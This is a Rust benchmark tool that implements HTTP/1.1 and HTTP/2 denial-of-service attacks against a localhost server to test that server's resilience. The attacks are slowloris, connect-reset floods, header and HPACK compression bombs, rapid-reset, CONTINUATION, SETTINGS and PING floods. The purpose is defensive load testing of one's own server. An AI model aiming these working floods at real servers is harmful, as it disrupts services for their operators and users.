//! Attacks an HTTP server, for `proof/benches/attacks.sh`. Use it only on a server of your own.
//!
//! `attack KIND PORT SECONDS [RATE]`, on 127.0.0.1. Prints how many connections it opened. The
//! kinds, with the meaning of RATE and its default:
//!
//! * `slowloris`, `slowloris-burst`: RATE connections (1,000) send a byte of a header each second,
//!   evenly or all at once, and connect again when they are closed.
//! * `connect-reset`: RATE connections a second (10,000) are opened and reset.
//! * `header-bomb`, `hpack-bomb`: RATE connections a second (500) send a header of 256 KiB, or one
//!   of 12 KiB that stands for 40 MiB.
//! * `rapid-reset`, `continuation`, `settings`, `ping`: RATE connections a second (100) send 20,000
//!   such frames each, or as many as they may.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, TcpStream};
use std::process::ExitCode;
use std::thread;
use std::time::{Duration, Instant};

/// How many frames a connection sends, if it sends frames.
const FRAMES: u32 = 20_000;
const TIMEOUT: Duration = Duration::from_millis(500);
/// What is sent at once, in bytes.
const PIECE: usize = 16 << 10;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The header of a GET of `/` from the host `x`.
const GET: &[u8] = b"\x82\x86\x84\x41\x01x";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

fn main() -> ExitCode {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let parsed = match words[..] {
        [kind, port, seconds] => Some((kind, port, seconds, "")),
        [kind, port, seconds, rate] => Some((kind, port, seconds, rate)),
        _ => None,
    };
    let opened = parsed.and_then(|(kind, port, seconds, rate)| {
        let end = Instant::now() + Duration::from_secs(seconds.parse().ok()?);
        attack(kind, port.parse().ok()?, end, rate.parse().ok())
    });
    match opened {
        Some(opened) => {
            println!("{opened}");
            ExitCode::SUCCESS
        }
        None => {
            eprintln!("usage: attack KIND PORT SECONDS [RATE]");
            ExitCode::from(2)
        }
    }
}

/// Returns how many connections were opened; `None` if there is no such attack.
fn attack(kind: &str, port: u16, end: Instant, rate: Option<u32>) -> Option<u64> {
    let bomb = |text: Vec<u8>| paced(end, rate.unwrap_or(500), || send(port, &text));
    let flood = |text: Vec<u8>| paced(end, rate.unwrap_or(100), || send(port, &text));
    Some(match kind {
        "slowloris" => slowloris(port, end, rate.unwrap_or(1000), Bytes::Evenly),
        "slowloris-burst" => slowloris(port, end, rate.unwrap_or(1000), Bytes::AllAtOnce),
        "connect-reset" => paced(end, rate.unwrap_or(10_000), || {
            let stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
            socket2::SockRef::from(&stream).set_linger(Some(Duration::ZERO))
        }),
        "header-bomb" => {
            let large = [b"GET / HTTP/1.1\r\nhost: x\r\nx: ", &[b'y'; 256 * 1024][..]].concat();
            bomb(large)
        }
        "hpack-bomb" => {
            // A field that the server keeps, and to which a byte then refers each time.
            let mut block = [GET, b"\x40\x01x\x7f\x81\x1e"].concat();
            block.extend([b'y'; 3968]);
            block.extend([0xbe; 10_000]);
            bomb([&begin()[..], &frame(HEADERS, 5, 1, &block)].concat())
        }
        "rapid-reset" => flood(frames(|number| {
            let stream = 1 + 2 * number;
            let cancel = 8_u32.to_be_bytes();
            [frame(HEADERS, 5, stream, GET), frame(RST_STREAM, 0, stream, &cancel)].concat()
        })),
        "continuation" => flood(frames(|number| match number {
            0 => frame(HEADERS, 1, 1, GET),
            _ => frame(CONTINUATION, 0, 1, b""),
        })),
        "settings" => flood(frames(|_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]))),
        "ping" => flood(frames(|_| frame(PING, 0, 0, b"whatever"))),
        _ => return None,
    })
}

/// Does something `rate` times a second, on four threads. Failures are the server's answer.
fn paced(end: Instant, rate: u32, what: impl Fn() -> io::Result<()> + Sync) -> u64 {
    const THREADS: u32 = 4;
    let step = Duration::from_secs(1) * THREADS / rate.max(1);
    let one = |number: u32| {
        let (mut due, mut done) = (Instant::now() + step * number / THREADS, 0);
        while due < end {
            thread::sleep(due.saturating_duration_since(Instant::now()));
            done += u64::from(what().is_ok());
            due += step;
        }
        done
    };
    thread::scope(|scope| {
        let threads: Vec<_> = (0..THREADS).map(|number| scope.spawn(move || one(number))).collect();
        threads.into_iter().map(|thread| thread.join().unwrap_or(0)).sum()
    })
}

/// When the connections of a slowloris send their bytes.
#[derive(Clone, Copy, PartialEq)]
enum Bytes {
    /// One after the other, spread over the second, as many clients would.
    Evenly,
    AllAtOnce,
}

/// Sends a byte a second on each connection.
fn slowloris(port: u16, end: Instant, connections: u32, bytes: Bytes) -> u64 {
    let mut opened = 0;
    let mut open = || -> io::Result<TcpStream> {
        let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
        stream.write_all(b"GET / HTTP/1.1\r\nx: ")?;
        opened += 1;
        Ok(stream)
    };
    let mut streams: Vec<Option<TcpStream>> = (0..connections).map(|_| None).collect();
    let step = Duration::from_secs(1) / connections.max(1);
    let mut second = Instant::now();
    while Instant::now() < end {
        let mut due = second;
        for stream in &mut streams {
            if bytes == Bytes::Evenly {
                thread::sleep(due.saturating_duration_since(Instant::now()));
                due += step;
            }
            let alive = stream.as_mut().is_some_and(|stream| stream.write_all(b"y").is_ok());
            if !alive {
                *stream = open().ok();
            }
        }
        second = (second + Duration::from_secs(1)).max(Instant::now());
        thread::sleep(second.saturating_duration_since(Instant::now()));
    }
    opened
}

/// Sends it in pieces until the server resets it or all is sent, then reads until the server
/// closes, or says nothing for a while.
fn send(port: u16, text: &[u8]) -> io::Result<()> {
    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
    stream.set_write_timeout(Some(TIMEOUT))?;
    stream.set_read_timeout(Some(TIMEOUT))?;
    // It may be reset before it is through. In one piece, the rest would still cost this machine's
    // CPUs, which is not the server's doing.
    let _ = text.chunks(PIECE).try_for_each(|piece| stream.write_all(piece));
    let mut buf = [0; 4096];
    while stream.read(&mut buf).is_ok_and(|count| count > 0) {}
    Ok(())
}

/// What an HTTP/2 client begins with.
fn begin() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, b"")].concat()
}

fn frames(each: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let mut bytes = begin();
    (0..FRAMES).for_each(|number| bytes.extend(each(number)));
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // None is longer than 16 KiB.
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
